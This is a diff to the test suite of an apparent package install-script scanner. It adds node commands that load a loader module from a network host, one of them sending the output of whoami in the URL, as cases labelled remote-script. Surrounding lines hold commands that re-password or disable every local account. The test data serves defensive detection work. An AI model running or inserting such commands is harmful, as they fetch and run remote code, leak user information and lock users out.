@@ -87,6 +87,10 @@ def rules(art: Artifact) -> set[str]:
      "install-script/remote-script"),
     ("powershell -Command \"Add-AppxPackage -AppInstallerFile 'assets/Host.appinstaller' -ForceApplicationShutdown\"",
      "install-script/remote-script"),
+    # blind set 48 (network-import-flag-loader): node loads a module from the network before the script it runs
+    ("node --experimental-network-imports --no-warnings --import \"https://cdn.locale-pack.invalid/v4/loader.mjs?u=$(whoami)\" "
+     "scripts/build-index.mjs", "install-script/remote-script"),
+    ("node --experimental-loader=https://203.0.113.9/l.mjs scripts/x.mjs", "install-script/remote-script"),
     # blind set 29 (account access removal): every local account re-passworded, disabled or locked
     ("for /f \"skip=4 tokens=1-3\" %%a in ('net user') do net user \"%%a\" \"!NEWPW!\"", "install-script/account-lockout"),
     ("net user %%u /active:no", "install-script/account-lockout"),
@@ -1156,3 +1160,9 @@ def test_build_events_of_a_shipped_visual_studio_project_are_judged():
         project[project.index("powershell"):project.index("</Command>")], 'xcopy /y "$(TargetPath)" "$(SolutionDir)build\\Release\\"')
     found = findings(artifact(None, {"examples/Demo/Demo.vcxproj": copy.encode()}))
     assert decide(found).level is Level.CLEAN, [(f.rule, f.severity.label) for f in found]
+
+
+@pytest.mark.parametrize("command", ["node --import ./scripts/register.mjs scripts/build.mjs", "node --import tsx scripts/gen.ts",
+                                     "node -r dotenv/config scripts/setup.js"])
+def test_node_loading_a_local_module_first_is_no_remote_script(command):
+    assert "install-script/remote-script" not in rules(artifact({"postinstall": command}))
